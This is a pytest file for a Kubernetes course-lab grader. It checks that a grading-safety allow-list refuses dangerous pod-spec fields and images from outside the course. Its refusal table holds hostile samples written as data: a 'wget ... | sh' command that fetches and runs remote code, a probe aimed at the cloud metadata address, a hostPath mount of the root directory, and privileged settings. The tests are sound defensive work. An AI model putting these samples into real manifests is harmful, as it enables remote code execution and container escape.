"""Grading safety on kind: the pod-spec allow-list, the image prefixes, what is neutralised,
and where the backend checks (before any cluster work). Fakes only: nothing here ran a pod."""

from __future__ import annotations

from pathlib import Path

import pytest
from kind_fakes import Events

from meshlab.backends.kind import KindOptions, grading
from meshlab.backends.kind.images import image_allowed, image_repository
from meshlab.errors import InputError, InputErrors
from meshlab.load.manifests import load_manifests
from meshlab.options import RunSettings
from meshlab.pipeline import RunOptions, prepare, run_lab

ROOT = Path(__file__).resolve().parents[2]
COURSE_LABS = [ROOT / "labs" / "2-traffic", *sorted((ROOT / "tests" / "examples").iterdir())]

DEPLOYMENT = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: staff-service
spec:
  selector:
    matchLabels: {app: staff-service}
  template:
    metadata:
      labels: {app: staff-service, version: safe}
      #META
    spec:
      #POD
      containers:
      - name: staff-service
        image: richardchesterwood/istio-fleetman-staff-service:6
        #CONTAINER
"""


def _render(where: str, snippet: str) -> str:
    indent = {"META": 6, "POD": 6, "CONTAINER": 8}[where]
    lines = [(" " * indent + line) if line else "" for line in snippet.splitlines()]
    return DEPLOYMENT.replace(" " * indent + f"#{where}", "\n".join(lines))


def _errors(tmp_path: Path, text: str) -> list[InputError]:
    path = tmp_path / "submission.yaml"
    path.write_text(text)
    return grading.refusals(load_manifests([path]))


def _line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


# (where, snippet, the field as the message names it, text on the line it must point at)
REFUSED = [
    ("POD", "hostNetwork: true", "spec.template.spec.hostNetwork", "hostNetwork"),
    ("POD", "hostPID: true", "spec.template.spec.hostPID", "hostPID"),
    ("POD", "hostIPC: true", "spec.template.spec.hostIPC", "hostIPC"),
    (
        "POD",
        "volumes:\n- name: root\n  hostPath: {path: /}",
        "spec.template.spec.volumes[0].hostPath",
        "hostPath",
    ),
    (
        "POD",
        "volumes:\n- name: data\n  persistentVolumeClaim: {claimName: x}",
        "spec.template.spec.volumes[0].persistentVolumeClaim",
        "persistentVolumeClaim",
    ),
    ("POD", "nodeName: kind-control-plane", "spec.template.spec.nodeName", "nodeName"),
    (
        "POD",
        "nodeSelector: {node-role.kubernetes.io/control-plane: ''}",
        "spec.template.spec.nodeSelector",
        "nodeSelector",
    ),
    ("POD", "tolerations: [{operator: Exists}]", "spec.template.spec.tolerations", "toler"),
    ("POD", "affinity: {}", "spec.template.spec.affinity", "affinity"),
    (
        "POD",
        "priorityClassName: system-node-critical",
        "spec.template.spec.priorityClassName",
        "priorityClassName",
    ),
    ("POD", "runtimeClassName: runc", "spec.template.spec.runtimeClassName", "runtimeClass"),
    ("POD", "shareProcessNamespace: true", "spec.template.spec.shareProcessNamespace", "share"),
    ("POD", "dnsPolicy: None", "spec.template.spec.dnsPolicy", "dnsPolicy"),
    ("POD", "hostAliases: []", "spec.template.spec.hostAliases", "hostAliases"),
    ("POD", "ephemeralContainers: []", "spec.template.spec.ephemeralContainers", "ephemeral"),
    (
        "POD",
        "securityContext:\n  sysctls: [{name: kernel.shm_rmid_forced, value: '1'}]",
        "spec.template.spec.securityContext.sysctls",
        "sysctls",
    ),
    (
        "CONTAINER",
        "securityContext: {privileged: true}",
        "spec.template.spec.containers[0].securityContext.privileged",
        "privileged",
    ),
    (
        "CONTAINER",
        "securityContext: {allowPrivilegeEscalation: true}",
        "spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation",
        "allowPrivilegeEscalation",
    ),
    (
        "CONTAINER",
        "securityContext:\n  capabilities:\n    add: [NET_ADMIN]",
        "spec.template.spec.containers[0].securityContext.capabilities.add",
        "add:",
    ),
    (
        "CONTAINER",
        "securityContext:\n  seccompProfile: {type: Unconfined}",
        "spec.template.spec.containers[0].securityContext.seccompProfile.type",
        "seccompProfile",
    ),
    (
        "CONTAINER",
        "command: [sh, -c, 'wget -qO- http://example.invalid/x | sh']",
        "spec.template.spec.containers[0].command",
        "command",
    ),
    ("CONTAINER", "args: [--debug]", "spec.template.spec.containers[0].args", "args"),
    (
        "CONTAINER",
        "readinessProbe:\n  httpGet: {host: 169.254.169.254, path: /, port: 80}",
        "spec.template.spec.containers[0].readinessProbe.httpGet.host",
        "httpGet",
    ),
    (
        "CONTAINER",
        "lifecycle:\n  preStop:\n    httpGet: {host: 10.0.0.1, port: 22}",
        "spec.template.spec.containers[0].lifecycle.preStop.httpGet.host",
        "httpGet",
    ),
    (
        "CONTAINER",
        "volumeMounts: [{name: x, mountPath: /x, mountPropagation: Bidirectional}]",
        "spec.template.spec.containers[0].volumeMounts[0].mountPropagation",
        "volumeMounts",
    ),
    (
        "CONTAINER",
        "volumeDevices: [{name: x, devicePath: /dev/xvda}]",
        "spec.template.spec.containers[0].volumeDevices",
        "volumeDevices",
    ),
    (
        "META",
        "annotations: {sidecar.istio.io/proxyImage: evil/proxy}",
        "spec.template.metadata.annotations['sidecar.istio.io/proxyImage']",
        "proxyImage",
    ),
    (
        "META",
        "annotations: {sidecar.istio.io/enableCoreDump: 'true'}",
        "spec.template.metadata.annotations['sidecar.istio.io/enableCoreDump']",
        "enableCoreDump",
    ),
    (
        "META",
        "annotations:\n  container.apparmor.security.beta.kubernetes.io/staff-service: unconfined",
        "spec.template.metadata.annotations['container.apparmor",
        "apparmor",
    ),
]


@pytest.mark.parametrize(("where", "snippet", "field", "line_text"), REFUSED)
def test_each_refused_field_is_refused_at_its_line(
    tmp_path: Path, where: str, snippet: str, field: str, line_text: str
) -> None:
    text = _render(where, snippet)
    (error,) = _errors(tmp_path, text)
    message = str(error)
    assert message.startswith("submission.yaml:") or "submission.yaml:" in message
    assert f"Deployment default/staff-service: {field}" in message
    assert error.location is not None
    start = _line_of(text, snippet.splitlines()[0].strip())
    assert error.location.line == _line_of("\n".join(text.splitlines()[start - 1 :]), line_text) + (
        start - 1
    )
    assert error.exit_code == 2
    assert "Grading safety on kind" in message  # the hint says where the list is


def test_init_containers_are_held_to_the_same_rules(tmp_path: Path) -> None:
    text = _render(
        "POD",
        "initContainers:\n- name: init\n  image: busybox\n  securityContext: {privileged: true}",
    )
    messages = [str(e) for e in _errors(tmp_path, text)]
    assert len(messages) == 2
    assert "spec.template.spec.initContainers[0].image is 'busybox'" in messages[0]
    assert "initContainers[0].securityContext.privileged is True" in messages[1]


@pytest.mark.parametrize(
    "image",
    [
        "busybox",
        "docker.io/library/python:3.13-alpine",
        "evil/istio-fleetman-webapp:6",
        "richardchesterwood/istio-fleetmanx:6",
        "ghcr.io/richardchesterwood/istio-fleetman-webapp-angular:6",
        "Richardchesterwood/istio-fleetman-webapp-angular:6",
    ],  # an image with a control character is refused when the manifest loads
)
def test_images_outside_the_course_are_refused(tmp_path: Path, image: str) -> None:
    text = DEPLOYMENT.replace(
        "richardchesterwood/istio-fleetman-staff-service:6", repr(image).replace("'", '"')
    )
    (error,) = _errors(tmp_path, text)
    assert ".containers[0].image is " in str(error)
    assert "docker.io/richardchesterwood/istio-fleetman-" in str(error)


def test_image_spellings_of_the_same_repository() -> None:
    prefixes = ("docker.io/richardchesterwood/istio-fleetman-",)
    digest = "sha256:" + "a" * 64
    for allowed in (
        "richardchesterwood/istio-fleetman-webapp-angular:6",
        "docker.io/richardchesterwood/istio-fleetman-webapp-angular",
        f"index.docker.io/richardchesterwood/istio-fleetman-staff-service@{digest}",
    ):
        assert image_allowed(allowed, prefixes), allowed
    assert image_repository("python:3.13-alpine") == "docker.io/library/python"
    assert image_repository("localhost:5000/x/y:1") == "localhost:5000/x/y"
    assert image_repository("docker.io/python") == "docker.io/library/python"
    assert image_repository("UPPER/case") is None
    assert image_repository("a b") is None
    assert image_allowed("mirror.example/fleet/x:1", ("mirror.example/fleet/",))
    assert not image_allowed("mirror.example/fleetx:1", ("mirror.example/fleet/",))


def test_a_bare_pod_and_a_service_and_meshlabs_own_names(tmp_path: Path) -> None:
    text = """\
apiVersion: v1
kind: Pod
metadata:
  name: meshlab-probe
  labels: {meshlab.io/probe: "true"}
spec:
  hostNetwork: true
  containers:
  - name: c
    image: richardchesterwood/istio-fleetman-webapp-angular:6
---
apiVersion: v1
kind: Service
metadata: {name: sneaky}
spec:
  ports: [{port: 80}]
  externalIPs: [10.96.0.10]
"""
    messages = [str(e) for e in _errors(tmp_path, text)]
    assert len(messages) == 4
    assert "Pod default/meshlab-probe: metadata.name is the name of meshlab's own" in messages[0]
    assert "metadata.labels['meshlab.io/probe'] is meshlab's own" in messages[1]
    assert "Pod default/meshlab-probe: spec.hostNetwork is True" in messages[2]
    assert "Service default/sneaky: spec.externalIPs may not be set" in messages[3]
    assert "submission.yaml:17" in messages[3]


def test_the_plain_probes_name_is_meshlabs_too(tmp_path: Path) -> None:
    """A submission's pod named like the probe without a sidecar would take its place."""
    text = """\
apiVersion: v1
kind: Pod
metadata: {name: meshlab-probe-plain}
spec:
  containers:
  - name: c
    image: richardchesterwood/istio-fleetman-webapp-angular:6
"""
    (message,) = [str(e) for e in _errors(tmp_path, text)]
    assert "Pod default/meshlab-probe-plain: metadata.name is the name of meshlab's own" in message


def test_what_a_course_lab_writes_is_allowed(tmp_path: Path) -> None:
    """Everything a lab legitimately sets, including what `kubectl get -o yaml` exports."""
    text = _render(
        "CONTAINER",
        """\
ports:
- {containerPort: 8080, name: http, protocol: TCP}
env:
- {name: SPRING_PROFILES_ACTIVE, value: production-microservice}
resources: {requests: {cpu: 50m, memory: 300Mi}, limits: {memory: 500Mi}}
readinessProbe: {httpGet: {path: /, port: 8080}, periodSeconds: 5}
livenessProbe: {tcpSocket: {port: 8080}, initialDelaySeconds: 30}
imagePullPolicy: IfNotPresent
terminationMessagePath: /dev/termination-log
terminationMessagePolicy: File
volumeMounts: [{name: config, mountPath: /config, readOnly: true}]
securityContext:
  runAsUser: 0
  allowPrivilegeEscalation: false
  privileged: false
  capabilities: {drop: [ALL]}
  seccompProfile: {type: RuntimeDefault}""",
    )
    text = text.replace(
        "      #POD",
        """\
      serviceAccountName: staff
      dnsPolicy: ClusterFirst
      restartPolicy: Always
      schedulerName: default-scheduler
      terminationGracePeriodSeconds: 30
      securityContext: {runAsNonRoot: false, fsGroup: 1000}
      volumes:
      - {name: config, configMap: {name: staff-config}}
      - {name: scratch, emptyDir: {}}
      - {name: creds, secret: {secretName: staff}}""",
    ).replace(
        "      #META",
        "      annotations: {sidecar.istio.io/inject: 'true', prometheus.io/scrape: 'true'}",
    )
    assert _errors(tmp_path, text) == []


@pytest.mark.parametrize("lab", COURSE_LABS, ids=lambda p: p.name)
def test_the_course_labs_pass_the_grading_check(lab: Path) -> None:
    resources = prepare(lab).to_deploy().resources
    assert any(r.kind == "Deployment" for r in resources)
    assert grading.refusals(resources) == []


def test_neutralised_fields() -> None:
    deployment = {
        "kind": "Deployment",
        "spec": {
            "template": {
                "spec": {
                    "terminationGracePeriodSeconds": 86400,
                    "containers": [{"name": "c", "ports": [{"containerPort": 80, "hostPort": 80}]}],
                }
            }
        },
    }
    out = grading.neutralised(deployment)
    spec = out["spec"]["template"]["spec"]
    assert spec["terminationGracePeriodSeconds"] == grading.MAX_GRACE_SECONDS
    assert spec["containers"][0]["ports"] == [{"containerPort": 80}]
    assert deployment["spec"]["template"]["spec"]["terminationGracePeriodSeconds"] == 86400
    service = {"kind": "Service", "spec": {"clusterIP": "10.96.0.10", "clusterIPs": ["x"]}}
    assert grading.neutralised(service)["spec"] == {}
    headless = {"kind": "Service", "spec": {"clusterIP": "None"}}
    assert grading.neutralised(headless) == headless


def test_check_raises_every_refusal_at_once(tmp_path: Path) -> None:
    path = tmp_path / "submission.yaml"
    path.write_text(_render("POD", "hostNetwork: true\nhostPID: true"))
    with pytest.raises(InputErrors) as info:
        grading.check(load_manifests([path]))
    assert len(info.value.errors) == 2
    assert info.value.exit_code == 2


def test_the_grading_flag_reaches_the_kind_options() -> None:
    settings = RunSettings.from_values({"backend": "kind", "grading": True})
    assert settings.kind_options() == KindOptions(grading=True)
    assert settings.kind_only_given() == ["--grading"]
    assert RunSettings().kind_options().grading is False


def test_the_backend_refuses_before_any_cluster_work(  # type: ignore[no-untyped-def]
    make, events: Events, tmp_path: Path
) -> None:
    lab = tmp_path / "lab"
    lab.mkdir()
    (lab / "lab.yaml").write_text((ROOT / "tests" / "examples" / "canary" / "lab.yaml").read_text())
    for name in ("rules.yaml", "staff.yaml"):
        (lab / name).write_text((ROOT / "tests" / "examples" / "canary" / name).read_text())
    staff = lab / "staff.yaml"
    staff.write_text(
        staff.read_text().replace("      containers:", "      hostPID: true\n      containers:", 1)
    )
    deployable = prepare(lab).to_deploy()
    backend = make(grading=True)
    assert backend.describe()["grading"].startswith("pod specs held")
    with pytest.raises(InputError) as info:
        backend.deploy(deployable).__enter__()
    assert "staff.yaml:" in str(info.value)
    assert "spec.template.spec.hostPID" in str(info.value)
    assert info.value.exit_code == 2
    assert events == ["run: docker info --format '{{.ServerVersion}}'"]  # no cluster, no apply
    assert backend.tools.pinned_only is True
    assert make().tools.pinned_only is False


def test_lab_2_runs_with_grading_on(make, lab2_dir: Path) -> None:  # type: ignore[no-untyped-def]
    backend = make(grading=True)
    report = run_lab(lab2_dir, RunOptions(backend="kind"), backend=backend)
    backend.close()
    (result,) = report.results
    assert result.passed, result.message
